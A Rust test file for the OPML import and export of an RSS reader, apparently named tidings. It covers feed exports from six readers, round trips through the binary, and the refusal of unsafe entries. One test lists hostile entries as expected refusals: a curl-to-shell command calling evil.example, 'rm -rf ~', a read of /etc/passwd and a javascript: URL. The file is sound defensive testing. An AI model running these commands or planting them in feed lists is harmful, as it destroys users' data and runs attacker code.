//! OPML: the exports of six readers read as their folders and titles say,
//! import reports, refusals of unsafe entries, and round trips through
//! `tidings export` and `tidings import` with the real binary.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::common::bin;
use tidings::cli::opml::{self, ExportFeed, Outline};
use tidings::config::Config;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/opml").join(name)
}

fn parse(name: &str) -> opml::Document {
    opml::parse(&std::fs::read(fixture(name)).unwrap()).unwrap()
}

/// (url, title, tags) of every feed outline.
fn summary(feeds: &[Outline]) -> Vec<(String, Option<String>, Vec<String>)> {
    feeds.iter().map(|o| (o.url.clone(), o.title.clone(), o.tags.clone())).collect()
}

fn row(url: &str, title: Option<&str>, tags: &[&str]) -> (String, Option<String>, Vec<String>) {
    (url.into(), title.map(String::from), tags.iter().map(|t| t.to_string()).collect())
}

#[test]
fn every_reader_export_reads_with_folders_as_tags() {
    let cases: Vec<(&str, Vec<_>)> = vec![
        (
            "newsboat.opml",
            vec![
                row("http://127.0.0.1:8765/rss-guid.xml", Some("Renamed Gazette"), &[]),
                row("http://127.0.0.1:8765/rss-noguid.xml", Some("Linky Log"), &[]),
                row("http://127.0.0.1:8765/atom.xml", Some("Atomic Notes"), &[]),
            ],
        ),
        (
            "feedly.opml",
            vec![
                row("https://feeds.arstechnica.com/arstechnica/index", Some("Ars Technica"), &["Tech"]),
                row("https://www.theverge.com/rss/index.xml", Some("The Verge - All Posts"), &["Tech"]),
                row("https://smittenkitchen.com/feed/", Some("Smitten Kitchen"), &["Cooking & Food"]),
                row("https://feeds.arstechnica.com/arstechnica/index", Some("Ars Technica"), &["Cooking & Food"]),
            ],
        ),
        (
            "inoreader.opml",
            vec![
                row("https://news.ycombinator.com/rss", Some("Hacker News"), &[]),
                row("https://www.nasa.gov/news-release/feed/", Some("NASA Breaking News"), &["Science"]),
                row("https://www.quantamagazine.org/feed/", Some("Quanta Magazine"), &["Science"]),
            ],
        ),
        (
            "netnewswire.opml",
            vec![
                row("https://daringfireball.net/feeds/main", Some("Daring Fireball"), &[]),
                row("https://sixcolors.com/feed/", Some("Six Colors"), &["Apple"]),
                row("https://inessential.com/feed.json", Some("inessential"), &["Apple"]),
            ],
        ),
        (
            "miniflux.opml",
            vec![
                row("https://lwn.net/headlines/rss", Some("LWN.net"), &["All"]),
                row("https://blog.rust-lang.org/feed.xml", Some("Rust Blog"), &["Rust"]),
                row("https://this-week-in-rust.org/rss.xml", Some("This Week in Rust"), &["Rust"]),
            ],
        ),
        (
            "freshrss.opml",
            vec![
                row(
                    "https://github.com/FreshRSS/FreshRSS/releases.atom",
                    Some("FreshRSS releases"),
                    &["Uncategorized"],
                ),
                row("https://jvns.ca/atom.xml", Some("Julia Evans"), &["Blogs"]),
                row("https://simonwillison.net/atom/everything/", Some("Simon Willison"), &["Blogs"]),
            ],
        ),
    ];
    for (name, expected) in cases {
        let doc = parse(name);
        assert_eq!(summary(&doc.feeds), expected, "{name}");
        assert!(doc.unusable.is_empty(), "{name}: {:?}", doc.unusable);
    }
}

#[test]
fn attribute_case_missing_titles_nesting_and_categories() {
    let doc = parse("variants.opml");
    assert_eq!(
        summary(&doc.feeds),
        vec![
            row("https://lower.example/feed", None, &[]),
            row("https://upper.example/feed", Some("Upper"), &[]),
            row("https://mixed.example/feed?a=1&b=2", Some("Mixed & <odd>"), &[]),
            row("https://nested.example/feed", None, &["Extra", "Deep", "More", "Outer", "Inner"]),
        ]
    );
    assert_eq!(doc.feeds[0].line, 6, "lines are reported");
    assert_eq!(doc.unusable.len(), 1);
    assert_eq!(doc.unusable[0].reason, "a feed outline without an xmlUrl");
    assert_eq!(doc.unusable[0].line, 14);
}

#[test]
fn what_is_not_opml_says_so() {
    assert_eq!(opml::parse(b"<rss version=\"2.0\"><channel/></rss>"), Err(opml::OpmlError::NotOpml));
    assert_eq!(opml::parse(b""), Err(opml::OpmlError::NotOpml));
    match opml::parse(b"<opml>\n<body>\n<outline xmlUrl=\"a\"") {
        Err(opml::OpmlError::Malformed { line, .. }) => assert_eq!(line, 3),
        other => panic!("{other:?}"),
    }
    // Never a panic, whatever the bytes.
    for bytes in [&b"\xff\xfe<opml"[..], b"<opml><outline xmlUrl='&bogus;'/></opml>", b"<<<>>>&&&"] {
        let _ = opml::parse(bytes);
    }
}

#[test]
fn written_opml_reads_back_the_same_feeds_tags_and_titles() {
    let feeds = vec![
        ExportFeed {
            url: "https://a.example/f?x=1&y=2".into(),
            title: Some("A & \"B\"".into()),
            site_url: None,
            tags: vec![],
        },
        ExportFeed {
            url: "https://b.example/f".into(),
            title: None,
            site_url: Some("https://b.example/".into()),
            tags: vec!["zeta".into(), "alpha".into()],
        },
        ExportFeed {
            url: "https://c.example/f".into(),
            title: Some("C".into()),
            site_url: None,
            tags: vec!["alpha".into(), "a/b".into()],
        },
    ];
    let text = opml::write(&feeds, "Sat, 06 Jan 2024 12:00:00 +0000");
    assert!(text.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">"), "{text}");
    let doc = opml::parse(text.as_bytes()).unwrap();
    let mut read: Vec<(String, Option<String>, Vec<String>)> = Vec::new();
    for o in doc.feeds {
        match read.iter_mut().find(|r| r.0 == o.url) {
            Some(r) => {
                for tag in o.tags {
                    if !r.2.contains(&tag) {
                        r.2.push(tag);
                    }
                }
            }
            None => read.push((o.url, o.title, o.tags)),
        }
    }
    assert_eq!(
        read,
        vec![
            row("https://a.example/f?x=1&y=2", Some("A & \"B\""), &[]),
            row("https://b.example/f", None, &["zeta", "alpha"]),
            row("https://c.example/f", Some("C"), &["alpha", "a/b"]),
        ]
    );
}

// ---- the binary ----

struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        Env { dir: tempfile::tempdir().unwrap() }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn run(&self, config: &str, args: &[&str]) -> Output {
        bin::run(&self.path(config), &self.path("data"), args)
    }

    fn feeds(&self, config: &str) -> Vec<(String, Option<String>, Vec<String>)> {
        let config = Config::load(&self.path(config)).unwrap();
        config.feeds.into_iter().map(|f| (f.url, f.title, f.tags)).collect()
    }
}

#[test]
fn import_reports_and_export_round_trips_for_every_format() {
    for name in ["newsboat.opml", "feedly.opml", "inoreader.opml", "netnewswire.opml", "miniflux.opml", "freshrss.opml"]
    {
        let env = Env::new();
        let out = env.run("a.toml", &["import", fixture(name).to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(0), "{name}: {}", bin::stderr(&out));
        assert!(out.stderr.is_empty(), "{name}: {}", bin::stderr(&out));
        let imported = env.feeds("a.toml");
        let stdout = bin::stdout(&out);
        assert!(stdout.contains(&format!("{} added, 0 already subscribed", imported.len())), "{name}: {stdout}");
        assert_eq!(stdout.matches("\nadded    ").count() + usize::from(stdout.starts_with("added ")), imported.len());

        let out = env.run("a.toml", &["export", "-o", env.path("out.opml").to_str().unwrap()]);
        assert!(out.status.success(), "{name}: {}", bin::stderr(&out));
        let out = env.run("b.toml", &["import", env.path("out.opml").to_str().unwrap()]);
        assert!(out.status.success(), "{name}: {}", bin::stderr(&out));
        assert_eq!(env.feeds("b.toml"), imported, "{name}: import(export(x)) == x");

        let again = env.run("a.toml", &["import", fixture(name).to_str().unwrap()]);
        assert!(again.status.success());
        assert!(bin::stdout(&again).contains(&format!("0 added, {} already subscribed", imported.len())), "{name}");
    }
}

#[test]
fn feedly_duplicates_across_folders_merge_their_tags() {
    let env = Env::new();
    assert!(
        env.run("c.toml", &["import", fixture("feedly.opml").to_str().unwrap(), "--tag", "feedly"]).status.success()
    );
    let ars = env.feeds("c.toml").into_iter().find(|f| f.0.contains("arstechnica")).unwrap();
    assert_eq!(ars.2, ["Tech", "feedly", "Cooking & Food"]);
    assert_eq!(env.feeds("c.toml").len(), 3);
}

#[test]
fn unsafe_entries_are_refused_and_reported() {
    let env = Env::new();
    let list = env.path("hostile.opml");
    std::fs::copy(fixture("hostile.opml"), &list).unwrap();
    std::fs::write(env.path("local.xml"), "<rss version=\"2.0\"><channel><title>L</title></channel></rss>").unwrap();
    let out = env.run("c.toml", &["import", list.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "some entries refused");
    let (stdout, stderr) = (bin::stdout(&out), bin::stderr(&out));
    for s in [&stdout, &stderr] {
        assert!(!s.contains('\u{1b}'), "no escape reaches the terminal: {s:?}");
    }
    let expected_errors = [
        "refused  line 6: exec:curl https://evil.example/x | sh: `exec:` runs a command; commands are never imported",
        "refused  line 7: filter:~/bin/x.sh:https://fine.example/other: `filter:` runs a command",
        "refused  line 8: |rm -rf ~: a shell command; commands are never imported",
        "refused  line 9: file:///etc/passwd: a local file outside your home directory",
        "refused  line 10: /dev/zero: a local file outside your home directory",
        "refused  line 11: javascript:alert(1): unsupported scheme `javascript:`",
        "refused  line 12: query:unread:unread = \"yes\": unsupported scheme `query:`",
        "invalid  line 14: feeds/missing.xml: no such local file",
    ];
    for line in expected_errors {
        assert!(stderr.contains(line), "missing {line:?} in:\n{stderr}");
    }
    assert_eq!(stderr.lines().count(), expected_errors.len(), "{stderr}");
    assert!(stdout.contains("3 added, 0 already subscribed, 0 skipped (not feeds), 7 refused, 1 invalid"), "{stdout}");
    let feeds = env.feeds("c.toml");
    let local = std::fs::canonicalize(env.path("local.xml")).unwrap();
    assert_eq!(
        feeds,
        vec![
            row("https://fine.example/feed", Some("Fine"), &[]),
            row("https://escape.example/feed", Some("Escape"), &[]),
            row(local.to_str().unwrap(), Some("Local"), &[]),
        ]
    );
}

#[test]
fn bad_files_exit_2_and_change_nothing() {
    let env = Env::new();
    std::fs::write(env.path("c.toml"), "# mine\n").unwrap();
    std::fs::write(env.path("feed.xml"), "<rss version=\"2.0\"><channel/></rss>").unwrap();
    for (file, message) in [("feed.xml", "not an OPML file"), ("missing.opml", "missing.opml: ")] {
        let out = env.run("c.toml", &["import", env.path(file).to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "{file}");
        let stderr = bin::stderr(&out);
        assert!(stderr.starts_with("tidings: ") && stderr.contains(message), "{stderr}");
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
    }
    assert_eq!(std::fs::read_to_string(env.path("c.toml")).unwrap(), "# mine\n");
    let out = env.run("c.toml", &["import", fixture("inoreader.opml").to_str().unwrap(), "--dry-run"]);
    assert!(out.status.success() && bin::stdout(&out).contains("3 would add"), "{}", bin::stdout(&out));
    assert_eq!(std::fs::read_to_string(env.path("c.toml")).unwrap(), "# mine\n", "dry run writes nothing");
}
